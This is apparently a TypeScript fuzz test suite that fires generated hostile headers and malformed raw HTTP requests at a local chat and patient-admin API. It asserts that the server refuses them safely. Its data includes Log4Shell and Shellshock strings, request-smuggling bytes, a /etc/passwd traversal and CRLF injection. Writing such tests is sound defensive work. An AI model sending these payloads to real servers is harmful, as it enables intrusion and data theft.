import { jest } from '@jest/globals';
import fc from 'fast-check';
import { ADMIN_API_KEY, FUZZ_PROPERTY_OPTIONS, FUZZ_TEST_TIMEOUT_MS, FuzzTarget, RUNS } from './support/fuzz-app.js';
import { sendAndJudge } from './support/fuzz-kit.js';
import { contentTypeHeader, extraHeaders, hostileBodyText } from './support/hostile-inputs.js';
import { rawHttp, statusOf } from './support/raw-http.js';

// 300 generated cases against a real server outlast Jest's 60 s default on a loaded machine.
jest.setTimeout(FUZZ_TEST_TIMEOUT_MS);

/**
 * Hostile headers on every JSON route: generated header sets (odd names, odd values, many of
 * them) with the usual invariants, then byte-level malformed requests (smuggling, bad framing,
 * missing Host) that only a raw socket can send.
 */
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
const SANE_REQUEST_ID = /^[A-Za-z0-9._-]{1,128}$/;
/** Headers Node's client manages itself or that change the framing; the raw cases cover those. */
const MANAGED =
  /^(content-length|transfer-encoding|connection|host|expect|upgrade|keep-alive|te|trailer|proxy-connection)$/;

const ROUTES: Array<{ method: string; path: string; body: boolean }> = [
  { method: 'POST', path: '/api/auth/login', body: true },
  { method: 'POST', path: '/api/auth/guest', body: false },
  { method: 'POST', path: '/api/auth/refresh', body: false },
  { method: 'POST', path: '/api/auth/logout', body: false },
  { method: 'POST', path: '/api/chat/message', body: true },
  { method: 'POST', path: '/api/chat/message/stream', body: true },
  { method: 'GET', path: '/api/chat/history', body: false },
  { method: 'DELETE', path: '/api/chat/history', body: false },
  { method: 'POST', path: '/api/admin/patients/import', body: true },
  {
    method: 'PUT',
    path: '/api/admin/patients/Victim12_Fuzzed34_0b6c1a52-3f1e-4c55-9d0e-8a4a5b6c7d8e/password',
    body: true,
  },
  { method: 'GET', path: '/api/health', body: false },
  { method: 'GET', path: '/api/health/ready', body: false },
];

const LOOPBACK = /^(127\.0\.0\.1|localhost|\[?::1\]?)(:\d+)?$/;
const printable = (text: string) => /^[\x20-\x7e]*$/.test(text);
const headerName = fc
  .oneof(
    fc.stringMatching(/^[a-z][a-z0-9-]{0,30}$/),
    fc.constantFrom(
      'x-forwarded-host',
      'x-forwarded-proto',
      'x-original-url',
      'x-rewrite-url',
      'x-real-ip',
      'forwarded',
      'range',
      'if-none-match',
      'via',
      'x-http-method',
      'x-method-override',
      'referer',
      'user-agent',
      'authorization-extra',
      'x-api-key',
    ),
  )
  .filter((name) => !MANAGED.test(name));
const headerValue = fc.oneof(
  fc.string({ maxLength: 80 }).filter(printable),
  fc.constantFrom(
    '',
    ' ',
    '127.0.0.1',
    'evil.example',
    'https',
    '/api/admin/patients/import',
    'bytes=0-1,1-2,2-3',
    '*',
    'null',
    '${jndi:ldap://x/a}',
    '() { :; }; echo vulnerable',
  ),
  fc.integer({ min: 100, max: 300 }).map((n) => 'v'.repeat(n)),
);
const headerSet = fc.dictionary(headerName, headerValue, { maxKeys: 40 });
const authorization = fc.oneof(
  fc.constant(undefined),
  fc.constant(`Bearer ${ADMIN_API_KEY}`),
  fc.string({ maxLength: 100 }).filter(printable),
  fc.constantFrom(
    'Bearer',
    'Bearer  ',
    'Basic',
    'Digest username="admin"',
    `Bearer ${'a'.repeat(8000)}`,
    'Bearer a.b.c, Bearer d.e.f',
  ),
);

describe('hostile headers', () => {
  const target = new FuzzTarget();

  beforeAll(async () => {
    await target.start();
    const imported = await target.json('POST', '/api/admin/patients/import', ADMIN_API_KEY, {
      resourceType: 'Bundle',
      type: 'collection',
      entry: [
        {
          resource: {
            resourceType: 'Patient',
            id: '0b6c1a52-3f1e-4c55-9d0e-8a4a5b6c7d8e',
            name: [{ given: ['Victim12'], family: 'Fuzzed34' }],
          },
        },
      ],
    });
    expect(imported.status).toBe(201);
  });
  afterAll(() => target.stop());

  it(`every JSON route: ${RUNS} generated header sets`, async () => {
    const stats = target.statsFor('hostile headers');
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...ROUTES),
        headerSet,
        extraHeaders,
        authorization,
        contentTypeHeader,
        fc.oneof(
          fc.constant('{"message":"hello","patient_id":"Adam631_Cronin387_aff8f143-2375-416f-901d-b0e4c73e3e58"}'),
          hostileBodyText,
        ),
        async (route, generated, extra, auth, contentType, body) => {
          const headers: Record<string, string> = {
            ...generated,
            ...extra,
            ...(auth === undefined ? {} : { authorization: auth }),
          };
          if (route.body) headers['content-type'] = contentType;
          const response = await sendAndJudge(
            target.client,
            target.watch,
            { method: route.method, path: route.path, headers, body: route.body ? body : undefined },
            stats,
          );
          // The request id is echoed only when it is sane; otherwise a fresh UUID. (Surrounding
          // whitespace is not part of a header value.)
          const incoming = headers['x-request-id']?.trim();
          const echoed = String(response.headers['x-request-id']);
          if (incoming !== undefined && SANE_REQUEST_ID.test(incoming)) expect(echoed).toBe(incoming);
          else expect(echoed).toMatch(UUID);
          // Forwarding headers are not trusted (TRUST_PROXY is off): nothing reflects them.
          // Evidence only when the value could not be there for a reason of its own: the request's
          // path is echoed as a problem's `instance`, and /api/health names the loopback Ollama.
          for (const name of ['x-forwarded-host', 'x-original-url', 'x-rewrite-url']) {
            const value = headers[name];
            if (value && value.length > 8 && !LOOPBACK.test(value) && !route.path.includes(value))
              expect(response.text).not.toContain(value);
          }
        },
      ),
      FUZZ_PROPERTY_OPTIONS,
    );
  });

  describe('malformed requests at the byte level', () => {
    const cases: Array<[string, string]> = [
      [
        'Content-Length and Transfer-Encoding together (smuggling)',
        'POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/admin/patients/import HTTP/1.1\r\nHost: x\r\n\r\n',
      ],
      [
        'two different Content-Length headers',
        'POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}',
      ],
      [
        'a negative Content-Length',
        'POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n{}',
      ],
      [
        'an obfuscated Transfer-Encoding',
        'POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: xchunked\r\n\r\n{}',
      ],
      [
        'a malformed chunk size',
        'POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n',
      ],
      ['a NUL byte in a header value', 'GET /api/health/live HTTP/1.1\r\nHost: x\r\nX-Evil: a\u0000b\r\n\r\n'],
      ['a header folded over two lines', 'GET /api/health/live HTTP/1.1\r\nHost: x\r\nX-Folded: a\r\n  b\r\n\r\n'],
      ['a bare LF line ending', 'GET /api/health/live HTTP/1.1\nHost: x\n\n'],
      ['a space before the colon', 'GET /api/health/live HTTP/1.1\r\nHost: x\r\nAuthorization : Bearer x\r\n\r\n'],
      ['no Host header', 'GET /api/health/live HTTP/1.1\r\n\r\n'],
      ['two Host headers', 'GET /api/health/live HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n'],
      ['an unknown method', 'FOO /api/health/live HTTP/1.1\r\nHost: x\r\n\r\n'],
      ['an HTTP/0.9 request line', 'GET /api/health/live\r\n\r\n'],
      ['an unsupported HTTP version', 'GET /api/health/live HTTP/3.7\r\nHost: x\r\n\r\n'],
      [
        'an absolute-form target for another host',
        'GET http://evil.example/api/health/live HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
      ],
      ['a dot-dot path', 'GET /api/../../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
      [
        'an encoded NUL and dot-dot in the path',
        'GET /api/chat/%00/..%2f..%2fhistory HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
      ],
      [
        'a CR LF encoded into the path',
        'GET /api/health/live%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
      ],
      ['non-ASCII bytes in the request line', 'GET /api/h\u00e9alth HTTP/1.1\r\nHost: x\r\n\r\n'],
    ];

    it.each(cases)('%s: refused or ignored, never a 5xx, and the server keeps serving', async (_label, bytes) => {
      const outcome = await rawHttp(target.app.url, { initial: Buffer.from(bytes, 'latin1') }, 15_000);
      const statuses = [...outcome.received.matchAll(/HTTP\/1\.1 (\d{3})/g)].map((match) => Number(match[1]));
      for (const status of statuses) expect(status).toBeLessThan(500);
      // Nothing smuggled: a second request hidden in the body never reaches the admin route.
      expect(statuses.filter((status) => status === 201)).toEqual([]);
      expect(outcome.received).not.toMatch(/\r\nSet-Cookie: a=b/i);
      expect(
        statusOf(
          (
            await rawHttp(
              target.app.url,
              { initial: 'GET /api/health/live HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' },
              15_000,
            )
          ).received,
        ),
      ).toBe(200);
    });
  });
});
